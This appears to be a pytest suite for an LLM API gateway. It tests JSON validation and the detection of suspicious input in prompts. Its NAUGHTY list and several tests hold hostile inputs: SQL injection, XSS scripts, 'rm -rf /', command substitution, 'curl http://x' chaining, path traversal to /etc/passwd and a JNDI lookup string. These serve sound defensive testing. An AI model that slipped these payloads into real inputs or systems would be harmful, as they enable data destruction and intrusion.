"""CHECKS 44-48 on native routes: bodies are read by their forms, and prose may hold anything."""
import json
import socket

import pytest
from front import wait_until
from gateway import AUTH

CHAT, EMBED = "/api/v1/chat", "/api/v1/embeddings"
MODEL = "openai/gpt-4o-mini"


def send(gw, path, text):
    """A body byte for byte."""
    return gw.request("POST", path, text if isinstance(text, bytes) else text.encode("utf-8"))


def errors(answer):
    assert answer.status == 422, (answer.status, answer.body)
    assert answer.headers["content-type"].startswith("application/problem+json")
    problem = answer.json
    assert problem["status"] == 422 and problem["request_id"] == answer.headers["x-request-id"]
    return {e["pointer"]: e["detail"] for e in problem["errors"]}


def test_every_field_that_is_wrong_is_told(gateway):
    found = errors(gateway.post(CHAT, {"temperature": 3, "max_tokens": 0, "stream": "yes", "a/b": 1,
                                       "provider": "open ai", "fallbacks": ["x", 7], "use_memory": True}))
    assert set(found) == {"/message", "/temperature", "/max_tokens", "/stream", "/a~1b", "/provider",
                          "/fallbacks/1", "/use_memory"}
    assert found["/message"] == "is required"
    assert found["/temperature"] == "must be a number from 0 to 2"
    found = errors(gateway.post(EMBED, {"dimensions": 4097, "model": ""}))
    assert set(found) == {"/input", "/dimensions", "/model"}


@pytest.mark.parametrize("path", [CHAT, EMBED])
@pytest.mark.parametrize("body", ["[]", "1", '"x"', "null", "true"])
def test_a_body_that_is_no_object_is_told(gateway, path, body):
    assert send(gateway, path, body).status in (400, 422)


@pytest.mark.parametrize("path", [CHAT, EMBED, "/api/v1/admin/circuits/openai/reset"])
@pytest.mark.parametrize("body", ["{", "{'a':1}", '{"a":1,}', '{"a":01}', '{"a":"\t"}', '{"a":NaN}', "{}x",
                                  '{"a":.5}', '{"a":"\\x"}', "\ufeff{}", '{"a":tru}'])
def test_check_44_what_json_forbids_is_400(gateway, path, body):
    answer = send(gateway, path, body)
    assert answer.status == 400 and answer.json["code"] == "malformed-json"


def test_check_44_a_hundred_thousand_brackets_are_400(gateway):
    assert send(gateway, CHAT, "[" * 100000).status == 400
    gateway.alive()


def test_check_44_numbers_may_be_written_as_json_allows(gateway):
    answer = send(gateway, CHAT, '{"message":"hi","model":"%s","max_tokens":1e2,"temperature":0.5e0}' % MODEL)
    assert answer.status == 200, answer.body


def nested(depth):
    return '{"message":"x","unknown":' + "[" * (depth - 1) + "]" * (depth - 1) + "}"


def test_check_45_depth_64_is_read_and_65_is_400(gateway):
    assert "/unknown" in errors(send(gateway, CHAT, nested(64)))
    assert send(gateway, CHAT, nested(65)).status == 400


def test_check_45_a_million_keys_are_refused(gateway):
    body = "{" + ",".join('"k%d":0' % i for i in range(1000000)) + "}"
    answer = send(gateway, CHAT, body)
    assert answer.status in (400, 413, 422)
    if answer.status == 422:
        assert len(answer.json["errors"]) <= 50
    gateway.alive()


@pytest.mark.parametrize("text", [b'"a\\u0000b"', b'"\\ud800"', b'"\\udc00x"', b'"\xff"', b'"\xc0\x80"',
                                  b'"\xed\xa0\x80"', b'"a\x00b"'])
@pytest.mark.parametrize("field", ["message", "system", "model", "conversation_id", "provider", "unknown"])
def test_check_46_text_that_is_no_text_is_400_everywhere(gateway, field, text):
    answer = send(gateway, CHAT, b'{"message":"x","' + field.encode() + b'":' + text + b"}")
    assert answer.status == 400


@pytest.mark.parametrize("field,value", [("message", '"y"'), ("model", '"m"'), ("stream", "false"),
                                         ("max_tokens", "5")])
def test_check_47_a_member_that_is_there_twice_is_refused(gateway, field, value):
    body = '{"message":"x","%s":%s,"%s":%s}' % (field, value, field, value)
    assert errors(send(gateway, CHAT, body)).get("/" + field) == "is there more than once"


def test_check_47_large_numbers_are_not_rounded(gateway):
    answer = send(gateway, CHAT, '{"message":"x","max_tokens":9223372036854775808}')
    assert "/max_tokens" in errors(answer)
    assert "/max_tokens" in errors(send(gateway, CHAT, '{"message":"x","max_tokens":9007199254740993.5}'))


NAUGHTY = [
    "' OR '1'='1", "'; DROP TABLE users; --", "admin'--", "1 UNION ALL SELECT NULL,NULL",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
    "; rm -rf /", "$(whoami)", "`id`", "a && curl http://x", "../../../etc/passwd",
    "..\\..\\windows\\system32", "%2e%2e%2f", "{{7*7}}", "${jndi:ldap://x}", "%s%n%x", "\u202e\u2066abc",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "Z\u0351\u036b\u0343algo", "\r\nSet-Cookie: a=b", "'\"\\",
    "\u2028\u2029", "NaN", "null", "-1", "1e309", "A" * 5000,
]


def counted(gw, kind):
    line = 'security_detections_total{kind="%s"} ' % kind
    return sum(int(t[len(line):]) for t in gw.get("/metrics").text.split("\n") if t.startswith(line))


@pytest.mark.parametrize("text", NAUGHTY, ids=range(len(NAUGHTY)))
def test_check_48_prose_may_hold_anything_and_arrives_unchanged(gateway, standin, text):
    answer = gateway.post(CHAT, {"message": text, "system": text, "model": MODEL})
    assert answer.status == 200, answer.body
    sent = standin.calls()[-1]["body"]["messages"]
    assert [m["content"] for m in sent] == [text, text]


@pytest.mark.parametrize("text", NAUGHTY, ids=range(len(NAUGHTY)))
@pytest.mark.parametrize("field", ["model", "conversation_id", "provider"])
def test_check_48_names_hold_what_names_may_hold_or_are_refused(gateway, field, text):
    answer = gateway.post(CHAT, {"message": "hi", field: text})
    assert answer.status in (200, 400, 404, 422), answer.body


def test_what_is_found_in_prose_is_counted_and_logged_without_the_text(gateway):
    before = counted(gateway, "sql_union"), counted(gateway, "xss_script")
    text = "what does ' UNION SELECT a FROM b -- do, and <script>marmalade</script>?"
    assert gateway.post(CHAT, {"message": text, "model": MODEL}).status == 200
    assert (counted(gateway, "sql_union"), counted(gateway, "xss_script")) == (before[0] + 1, before[1] + 1)
    def lines():
        return [x for x in gateway.log_lines() if x.get("message") == "suspicious_input"]

    wait_until(lines, "a line about what was found")
    last = lines()[-1]
    assert "sql_union" in last["kinds"] and last["outcome"] == "passed"
    assert "marmalade" not in gateway.log()


SURFACES = {
    "/v1/chat/completions": lambda t: {"model": MODEL, "messages": [{"role": "user", "content": t}]},
    "/v1/responses": lambda t: {"model": MODEL, "input": t},
    "/v1/messages": lambda t: {"model": MODEL, "max_tokens": 9, "messages": [{"role": "user", "content": t}]},
    "/v1beta/models/%s:generateContent" % MODEL: lambda t: {"contents": [{"role": "user", "parts": [{"text": t}]}]},
    "/chat": lambda t: {"message": t, "model": MODEL},
}


@pytest.mark.parametrize("path", SURFACES)
def test_prose_is_looked_at_on_every_surface(gateway, path):
    before = counted(gateway, "shell_chain")
    assert gateway.post(path, SURFACES[path]("; rm -rf /")).status == 200
    assert counted(gateway, "shell_chain") == before + 1


LONG = "It was so; and then, said Anna, we selected them. " * 6000  # 300 kB


@pytest.mark.parametrize("path", [p for p in SURFACES if p != "/chat"])
@pytest.mark.parametrize("text", ["x' UNION SELECT a " + LONG, LONG + " x' UNION SELECT a"], ids=["first", "last"])
def test_all_of_a_long_text_is_looked_at(gateway, path, text):
    before = counted(gateway, "sql_union")
    assert gateway.post(path, SURFACES[path](text)).status == 200
    assert counted(gateway, "sql_union") == before + 1


def test_what_stands_before_a_long_text_is_refused(make_gateway, standin):
    gw = make_gateway(conf={"gateway.yaml": {"security.free_text": "reject"}})
    path = "/v1/chat/completions"
    calls = len(standin.calls())
    assert gw.post(path, SURFACES[path]("<script> " + LONG)).status == 400
    assert len(standin.calls()) == calls
    assert gw.post(path, SURFACES[path](LONG)).status == 200


def test_text_that_is_all_triggers_is_left_with_its_client(gateway, standin):
    calls = len(standin.calls())
    body = json.dumps({"model": MODEL, "messages": [{"role": "user", "content": "'\"" * 4000000}]})
    head = ("POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: %s\r\nContent-Length: %d\r\n"
            "Content-Type: application/json\r\n\r\n" % (AUTH["Authorization"], len(body)))
    with socket.create_connection(("127.0.0.1", gateway.port)) as s:
        s.sendall(head.encode() + body.encode())
    gone = 'http_client_gone_total{phase="waiting"} '
    wait_until(lambda: [t for t in gateway.get("/metrics").text.split("\n") if t.startswith(gone)],
               "a client that is gone")
    assert gateway.get("/api/v1/health").status == 200
    assert len(standin.calls()) == calls


def test_reject_refuses_on_every_surface_and_off_does_not_look(make_gateway):
    gw = make_gateway(conf={"gateway.yaml": {"security.free_text": "reject"}})
    for path, body in SURFACES.items():
        answer = gw.post(path, body("<script>alert(1)</script>"))
        assert answer.status == (422 if path == "/chat" else 400), (path, answer.body)
        assert b"alert" not in answer.body
        assert gw.post(path, body("a quiet question")).status == 200
    gw = make_gateway(conf={"gateway.yaml": {"security.free_text": "off"}})
    assert gw.post("/chat", {"message": "<script>", "model": MODEL}).status == 200
    assert counted(gw, "xss_script") == 0


def test_identifiers_are_refused_whatever_the_policy(make_gateway):
    gw = make_gateway(conf={"gateway.yaml": {"security.free_text": "off"}})
    answer = gw.post(CHAT, {"message": "hi", "conversation_id": "x' OR '1'='1"})
    assert errors(answer) == {"/conversation_id": "holds what looks like an injection attempt"}
    assert counted(gw, "sql_or") == 1


def test_a_route_without_fields_takes_an_empty_body(gateway):
    path = "/api/v1/admin/circuits/openai/reset"
    assert gateway.request("POST", path, None).status == 200
    assert send(gateway, path, "{}").status == 200
    assert errors(gateway.post(path, {"force": True})) == {"/force": "is not known here"}


def test_wrong_content_types_are_415(gateway):
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
        answer = gateway.request("POST", CHAT, "{}", headers={**AUTH, "Content-Type": kind})
        assert answer.status == 415
